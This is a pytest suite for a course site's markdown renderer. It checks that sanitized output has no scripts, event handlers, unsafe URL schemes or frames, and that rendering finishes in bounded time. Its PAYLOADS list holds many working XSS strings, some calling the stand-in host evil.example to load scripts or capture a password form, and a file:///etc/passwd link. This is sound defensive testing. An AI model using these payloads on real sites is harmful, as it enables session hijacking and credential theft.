"""Nothing that anybody writes can run, load a frame, or pass for a part of the page; and rendering always ends."""

import re
import time
from html.parser import HTMLParser

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from courses.markdown import plain_text, render
from courses.markdown.sanitizing import MATH_TAGS, TEXT_TAGS

PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<script\n>alert(1)</script\n>",
    "<script/x>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "a <script>alert(1)</script> b",
    "<img src=x onerror=alert(1)>",
    "<img src=x OnErRoR=alert(1)//",
    '<img src="x" onerror\n=\n"alert(1)">',
    "<img/src=x/onerror=alert(1)>",
    "<img src=`x`onerror=alert(1)>",
    '<img src="javascript:alert(1)">',
    '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
    '<img srcset="javascript:alert(1)" src=x>',
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    '![x"onerror="alert(1)](x)',
    "![x](x\"onerror='alert(1)')",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](java&#x0A;script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](file:///etc/passwd)",
    "[x][y]\n\n[y]: javascript:alert(1)",
    "<javascript:alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    "<a href=' javascript:alert(1)'>x</a>",
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74:alert(1)">x</a>',
    "<a onclick=alert(1)>x</a>",
    "<a href=x onmouseover=alert(1)>x</a>",
    "<a href=x style=position:fixed;inset:0>x</a>",
    "<a href=x target=_blank ping=//evil.example>x</a>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><use href="data:image/svg+xml,x#x"></use></svg>',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    '<math href="javascript:alert(1)">x</math>',
    "<math><annotation-xml encoding=text/html><script>alert(1)</script></annotation-xml></math>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    r"$\text{<script>alert(1)</script>}$",
    r"$\href{javascript:alert(1)}{x}$",
    r"$\unicode{x3c}\class{x" + '"onclick="alert(1)}{y}$',
    "$$\n\\text{<img src=x onerror=alert(1)>}\n$$",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    '<iframe src="https://www.youtube.com/embed/x"></iframe>',
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<applet code=x></applet>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
    "<style>*{background:url(//evil.example)}</style>",
    "<style>@import '//evil.example/x.css';</style>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<p style="position:fixed">x</p>',
    "<form action=//evil.example><input name=password><button formaction=javascript:alert(1)>go</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<select autofocus onfocus=alert(1)></select>",
    "<keygen autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<video poster=javascript:alert(1)></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<body onload=alert(1)>",
    "<html><head><title>x</title><script>alert(1)</script></head></html>",
    "<template><script>alert(1)</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo '<script>alert(1)</script>' ?>",
    "<!DOCTYPE html><script>alert(1)</script>",
    "<x-element onclick=alert(1) is=x>x</x-element>",
    "<p id=location name=location>x</p>",
    "<div data-bs-toggle=modal hx-get=/accounts/logout/ hx-trigger=load>x</div>",
    "<a href=/x hx-post=/accounts/logout/ data-hx-post=/x>x</a>",
    "```python\n</code></pre><script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    '```x" onclick="alert(1)\nx\n```',
    "`<script>alert(1)</script>`",
    '# <script>alert(1)</script> {#"onclick="alert(1)}',
    '# x {#x"onmouseover="alert(1)}',
    "::: note <script>alert(1)</script>\nx\n:::",
    '::: {.note onclick="alert(1)"}\nx\n:::',
    "::: script\nalert(1)\n:::",
    "> [!NOTE]\n> <script>alert(1)</script>",
    "|<script>alert(1)</script>|\n|-|\n|<img src=x onerror=alert(1)>|",
    "x[^<script>]\n\n[^<script>]: <script>alert(1)</script>",
    "- [x] <script>alert(1)</script>",
    "term\n: <script>alert(1)</script>",
    "[x](https://example.org/ \"' onmouseover='alert(1)\")",
    "<https://example.org/'onmouseover='alert(1)>",
    '<img alt="<script>alert(1)</script>" src=x>',
    '<img alt="&lt;script&gt;alert(1)&lt;/script&gt;">',
    '<img src="/media/a-1x1.png" width="1&quot; onerror=&quot;alert(1)">',
    '<img title="<table>" src="/media/a-1x1.png">',
    '<a title="<table><script>alert(1)</script>" href=x>x</a>',
]
_ATTRIBUTES = """
alt aria-label class colspan data-language datetime dir height href id lang loading open rel reversed role rowspan
scope span src start tabindex title type width
"""
ATTRIBUTES = frozenset(_ATTRIBUTES.split())
SCHEMES = {"http", "https", "mailto"}
SCHEME = re.compile(r"([A-Za-z][A-Za-z0-9+.-]*):")
# Browsers leave these out before they look for the scheme.
UNSEEN = re.compile(r"^[\x00-\x20]+|[\t\r\n]")


class Reader(HTMLParser):
    """Reads HTML as a page would, and asserts of every tag that it may stand in it."""

    def handle_starttag(self, tag, attrs):
        assert tag in TEXT_TAGS | MATH_TAGS, tag
        for name, value in attrs:
            assert name in ATTRIBUTES or tag in MATH_TAGS, (tag, name)
            assert not name.startswith("on") and name not in {"style", "srcdoc", "srcset", "name"}, (tag, name)
            if name in {"href", "src"}:
                scheme = SCHEME.match(UNSEEN.sub("", value))
                assert not scheme or scheme[1].lower() in SCHEMES, (tag, value)
            if name == "id":
                assert value.startswith("lf-"), value

    handle_startendtag = handle_starttag

    def handle_comment(self, data):
        raise AssertionError(data)

    handle_decl = handle_pi = unknown_decl = handle_comment


def read(html):
    reader = Reader(convert_charrefs=True)
    reader.feed(html)
    reader.close()


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("frame", ["{}", "a {} b", "> {}", "- {}", "::: note\n{}\n:::", "<div>\n\n{}\n\n</div>"])
def test_nothing_runs(payload, frame):
    read(render(frame.replace("{}", payload)))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_runs_when_targets_are_resolved(payload):
    read(render(payload, resolve=lambda url: url))


_MARKS = """
# ::: > - 1. [!NOTE] [x] ```py ``` $ $$ [^1] [^1]: |a|b| |-|-| [ ]( ) ![ < > * ** _ ` ~~ & {#x} : <div> </div> <details>
<table> <td> <a -->
"""
MARKS = [
    *_MARKS.split(),
    *(f"\n{mark} " for mark in _MARKS.split()),
    "\n",
    "\n\n",
    "    ",
    "\t",
    "\ud800",
    "\0",
    "\u202e",
]
TEXTS = st.lists(
    st.one_of(
        st.text(max_size=40),
        st.sampled_from(PAYLOADS),
        st.sampled_from(MARKS),
    ),
    max_size=60,
).map("".join)


@settings(max_examples=300, deadline=None, suppress_health_check=list(HealthCheck))
@given(TEXTS)
def test_any_text_is_rendered_safely(text):
    read(render(text))
    assert isinstance(plain_text(text), str)


@settings(max_examples=100, deadline=None)
@given(st.text(max_size=2_000))
def test_any_characters_are_rendered(text):
    read(render(text))


BOMBS = {
    "brackets": "[",
    "pictures": "![",
    "links": "[a](",
    "references": "[a][",
    "both brackets": "![[]()",
    "stars": "*",
    "emphasis": "*a_ ",
    "quotes": ">",
    "quoted quotes": "> ",
    "lists": "- ",
    "code spans": "` a``",
    "tags": "<a ",
    "comments": "<!--",
    "elements": "<div>",
    "formatting": "<b><p>",
    "entities": "&#x",
    "backslashes": "\\",
    "tabs": "\t",
    "dollars": "$a ",
    "formulas": "$x^2$ ",
    "divisions": "::: a\n",
    "division ends": ":::\n",
    "titled divisions": "::: a\n# t\n",
    "alerts": "> [!NOTE]\n> a\n\n",
    "definitions": "a\n: b\n",
    "footnotes": "[^a]",
    "footnote definitions": "[^a]: ",
    "headings": "# a\n",
    "ids": "# {#",
    "strikes": "~~a ",
    "rules": "---\n",
}


@pytest.mark.parametrize("piece", BOMBS.values(), ids=BOMBS)
def test_rendering_ends_in_bounded_time(piece):
    text = (piece * 50_000)[:50_000]
    started = time.process_time()
    read(render(text))
    assert time.process_time() - started < 8


def test_rendering_wide_tables_ends():
    started = time.process_time()
    render("|" + "a|" * 1_000 + "\n|" + "-|" * 1_000 + "\n" + "x\n" * 20_000)
    assert time.process_time() - started < 8


@pytest.mark.parametrize(
    "language", ["matlab", "csharp", "make", "rst", "terraform", "markdown", "psql", "java", "html"]
)
@pytest.mark.parametrize("piece", ["\n", "x\n ", "a", "(", "<", '"', "a ", "{{", "/*", "--"])
def test_coloring_ends_in_bounded_time(language, piece):
    started = time.process_time()
    render(f"```{language}\n{(piece * 19_000)[:19_000]}\n```")
    assert time.process_time() - started < 4
